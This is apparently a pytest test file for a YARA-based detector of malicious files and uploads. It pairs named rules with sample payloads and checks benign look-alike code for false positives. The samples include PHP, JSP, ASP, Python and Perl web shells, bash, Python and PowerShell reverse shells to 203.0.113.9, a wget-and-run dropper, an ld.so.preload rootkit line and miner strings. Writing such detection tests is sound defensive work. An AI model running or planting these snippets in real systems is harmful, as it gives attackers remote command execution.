"""Malicious files, uploads of them, and code that only looks alike."""

from __future__ import annotations

import sysconfig
from pathlib import Path

import pytest

from apps.contracts import Kind, Risk
from apps.detection.tools.yara_files import TOOL
from tests.detection.made import MALLORY, file, found, request

# Written in pieces, so that a virus scanner leaves this test alone.
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + "$H+H*").encode()
POOL = "stratum" + "+tcp://pool.example.net:3333"

MALICIOUS = {
    "PhpCommandFromRequest": b"<?php @system($_REQUEST['cmd']); ?>",
    "PhpCommandFromVariable": b"<?php $cmd = $_GET['c']; echo '<pre>'; passthru($cmd); ?>",
    "PhpCodeFromRequest": b"<?php @eval(base64_decode($_POST['z0']));",
    "PhpHiddenCall": b'<?php $k = "\\x62\\x61\\x73\\x65\\x36\\x34_decode"; @$k($_POST["a"]);',
    "PhpKnownWebShell": b"<?php /* b374k shell 3.2 b374k b374k b374k */ ?>",
    "PhpDecodedAndRun": b"<?php eval(gzinflate(base64_decode('80jNyclXKEktLgEA')));",
    "PhpNamesInHexAndRun": b'<?php ${"\\x47\\x4c\\x4fB\\x41L\\x53"}["a"] = "b";',
    "JspWebShell": b'<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
    "AspWebShell": b'<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>',
    "PythonWebShell": b"@app.get('/x')\ndef x():\n    return os.popen(request.args.get('c')).read()\n",
    "PerlWebShell": b"#!/usr/bin/perl\nuse CGI ':standard';\nprint `$cmd`;\nsystem(param('c'));\n",
    "PythonDecodedAndRun": b"import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLmdldGN3ZCgpCg=='))\n",
    "ShellReverseShell": b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
    "ScriptReverseShell": b"import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',4444))\n"
    b"os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn('/bin/sh')\n",
    "PowerShellReverseShell": b"$c = New-Object Net.Sockets.TCPClient('203.0.113.9',4444);"
    b"$s = $c.GetStream(); $o = iex $d; $s.Write($b,0,$b.Length)",
    "PhpMeterpreter": b"/*<?php /**/ $GLOBALS['msgsock'] = $s; $GLOBALS['msgsock_type'] = $t; eval($b);",
    "MinerConfiguration": b'{"donate-level": 1, "pools": [{"algo": "rx/0", "url": "x"}], "randomx": {}}',
    "MinerProgram": b"\x7fELF\x02\x01\x01" + f"XMRig RandomX {POOL} donate-level".encode(),
    "ScriptDropper": b"cd /tmp; wget http://203.0.113.9/x.sh -O x; chmod 777 x; ./x; rm -rf x\n",
    "PreloadRootkitInstaller": b"echo /usr/local/lib/libx.so >> /etc/ld.so.preload\n",
    "EicarTestFile": EICAR,
}

HONEST = {
    "template.php": b"<?php foreach ($items as $item): ?><li><?= htmlspecialchars($item) ?></li>\n"
    b"<?php endforeach; $name = $_GET['name'] ?? ''; echo htmlspecialchars($name); ?>",
    "handler.php": b"<?php $action = $_POST['action']; $handlers[$action]->run(); exec('convert a b');",
    "doc.php": b"<?php /* Reads `$_GET['page']` and `$_POST['x']`; never pass it to system(). */",
    "encode.php": b"<?php $data = base64_decode($row['blob']); $x = gzinflate($data); echo strrev('a');",
    "install.sh": b"#!/bin/sh\nset -e\ncurl -fsSL https://example.org/install.sh | sh\nchmod +x /usr/bin/x\n",
    "app.js": b"const x = eval; document.cookie; fetch('/api').then(r => r.json());",
    "view.py": b"def view(request):\n    name = request.GET.get('name')\n    return render(request, name)\n",
    "run.py": b"import subprocess\nsubprocess.run(['ls', '-l'], check=True)\nexec(compile(src, 'a', 'exec'))\n",
    "page.jsp": b'<%@ page %><p><%= request.getParameter("name") %></p>',
    "page.aspx": b'<%@ Page Language="C#" %><%= Server.HtmlEncode(Request.QueryString["q"]) %>',
    "pool.md": b"Point your client at the pool's address and set an algo.",
    "mentions-eicar.txt": b"The file begins with X5O and says EICAR-STANDARD-ANTIVIRUS-TEST-FILE!",
}


@pytest.mark.parametrize("rule", MALICIOUS)
def test_each_rule_finds_what_it_is_for(rule: str) -> None:
    (one,) = found(TOOL, [file("/srv/x", MALICIOUS[rule])])
    assert rule in one.parameters["rules"]


def test_every_rule_has_its_example() -> None:
    from apps.detection.tools import yara_files

    assert {rule.identifier for rule in yara_files._rules()} == set(MALICIOUS)


@pytest.mark.parametrize("name", HONEST)
def test_honest_code_is_quiet(name: str) -> None:
    assert found(TOOL, [file(f"/srv/{name}", HONEST[name])]) == []


def test_the_standard_library_is_quiet() -> None:
    modules = sorted(Path(sysconfig.get_path("stdlib")).glob("*.py"))
    assert len(modules) > 100
    assert found(TOOL, (file(str(path), path.read_bytes()) for path in modules)) == []


def test_a_file_finding_names_path_host_and_digest_and_takes_the_gravest_rule() -> None:
    shell = b"<?php system($_GET['c']); eval($_POST['p']); ?>"
    row = {**file("/srv/shop/uploads/a.php", shell), "file.hash.sha256": "ab" * 32}
    (one,) = found(TOOL, [row])
    assert (one.kind, one.risk) == (Kind.WEB_SHELL, Risk.TROJAN)
    assert (one.subject, one.host, one.target) == ("/srv/shop/uploads/a.php", "shop", "shop")
    assert one.parameters["sha256"] == "ab" * 32
    assert one.parameters["strings"]["PhpCodeFromRequest"] == ["$php", "$eval"]
    assert one.severity >= 90


def test_a_shell_in_an_upload_is_found_with_who_sent_it() -> None:
    body = (
        '--x\r\nContent-Disposition: form-data; name="file"; filename="status.php"\r\n\r\n'
        "<?php system($_REQUEST['cmd']); ?>\r\n--x--\r\n"
    )
    rows = [request(0, "/upload", 201, **{"http.request.body.content": body})]
    (one,) = found(TOOL, rows)
    assert (one.kind, one.subject, one.host) == (Kind.WEB_SHELL, MALLORY, "shop")
    assert one.parameters["file_name"] == "status.php"
    (refused,) = found(TOOL, [{**rows[0], "http.response.status_code": 403}])
    assert refused.kind is Kind.WEB_INJECTION
    assert refused.severity < one.severity


def test_the_test_file_is_less_grave_than_a_shell() -> None:
    (test_file,) = found(TOOL, [file("/tmp/eicar.com", EICAR)])
    assert (test_file.kind, test_file.risk) == (Kind.MALWARE, Risk.VIRUS)
    assert test_file.severity <= 50
